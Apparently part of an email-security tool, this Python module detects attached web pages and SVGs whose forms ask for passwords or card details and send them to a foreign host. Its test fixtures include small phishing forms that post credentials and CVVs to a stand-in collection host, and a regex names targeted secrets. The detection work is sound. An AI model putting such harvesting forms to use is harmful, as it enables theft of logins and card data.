"""A web page sent as a file opens outside the mail program, with no address that could be looked at. So sign-in
forms are sent that way, and what is typed goes to the thief.

Some firms send locked letters as a page that asks for a password. Where such a page belongs to a service that
we know, it is left alone; PDF forms that ask for names and numbers are honest, too.
"""

import re
from collections.abc import Iterator
from functools import lru_cache

from bot.library.lists import Lists, one_of
from bot.mail.address import host_of
from bot.mail.email import Attachment, Form
from bot.mail.organisation import organisation
from bot.signals._asks import from_the_brand_itself
from bot.signals._attached import place, said_in, shown_name
from bot.signals._with_file import with_file
from bot.signals.signal import Case, Evidence, Family, Signal, Weight

_PAGES = frozenset({"html", "svg", "xml", "mhtml", "script"})
_NOT_TYPED = ("hidden:", "submit:", "button:", "checkbox:", "radio:", "image:", "search:")
# Names that tell only as a whole, or written in one of several ways; the others are in lists.toml.
_SECRET = r"\bmdp\b|\bpin\b|\bcvv|\bcvc|card.?(?:num|no)|seed.?phrase"


def find(case: Case) -> Iterator[Evidence]:
    if (
        from_the_brand_itself(case)
        and case.email.sender
        and case.email.authentication.aligned_pass(case.email.sender.domain)
    ):
        return
    for one in case.email.attachments:
        if one.real in _PAGES or one.real == "pdf":
            if any(_asks_for_a_secret(case, form, one) for form in one.forms):
                yield Evidence(place(one), shown_name(one))
            elif one.real in _PAGES and (said := next(said_in(case, one, "password-asked", "bank-login-asked"), None)):
                yield Evidence(place(one), said.quote)


def _asks_for_a_secret(case: Case, form: Form, one: Attachment) -> bool:
    owner = case.brands.owner(organisation(host_of(form.action)))
    if owner and owner.owns(organisation(host_of(form.action))):
        return False
    typed = [field for field in form.fields if not field.startswith(_NOT_TYPED)]
    if one.real == "pdf":
        return any(field.startswith("password:") for field in typed)
    return any(field.startswith("password:") or _secret(case.brands.shared).search(field[:200]) for field in typed)


@lru_cache(maxsize=4)
def _secret(lists: Lists) -> re.Pattern[str]:
    """What the names of fields are like that ask for a secret."""
    return re.compile(f"{_SECRET}|{one_of(lists.page_secrets)}", re.IGNORECASE)


SIGNAL = Signal(
    id="page-asks-password",
    title="A file that asks for your password",
    says="A file in it is a page that wants a password or card number from you.",
    why=__doc__,
    family=Family.ATTACHMENTS,
    weight=Weight.ALARM,
    find=find,
    teaches="files-and-programs",
    see=("MITRE ATT&CK T1566.001",),
    fires_on={
        "a sign-in page": with_file(
            "From: Accounts <pay@firm.test>\nSubject: Payment copy\n\nPlease see the file.",
            "Payment_Copy.html",
            '<p>Sign in to view</p><form action="https://collect.test/p.php"><input name="user">'
            '<input type="password" name="pw"></form>',
            kind="text/html",
        ),
        "a page that wants a card": with_file(
            "From: Parcel <info@parcel.test>\nSubject: Your parcel\n\nFill in the form.",
            "form.htm",
            '<form action="https://collect.test/c"><input name="cardnumber"><input name="cvv"></form>',
            kind="text/html",
        ),
        "a drawing with a form": with_file(
            "From: Voice <voice@firm.test>\nSubject: New message\n\nListen to it.",
            "message.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form action="https://collect.test/s">'
            '<input type="password" name="p"></form></foreignObject></svg>',
            kind="image/svg+xml",
        ),
    },
    quiet_on={
        "a saved page": with_file(
            "From: Ann <ann@firm.example>\nSubject: The article\n\nHere it is.",
            "article.html",
            '<h1>How to bake bread</h1><p>Take flour.</p><form action="/find"><input type="search" name="q"></form>',
            kind="text/html",
        ),
        "a sign-up sheet": with_file(
            "From: Choir <info@choir.example>\nSubject: Summer trip\n\nPlease fill it in.",
            "trip.html",
            '<form action="https://choir.example/trip"><input name="name"><input type="email" name="mail"></form>',
            kind="text/html",
        ),
    },
)
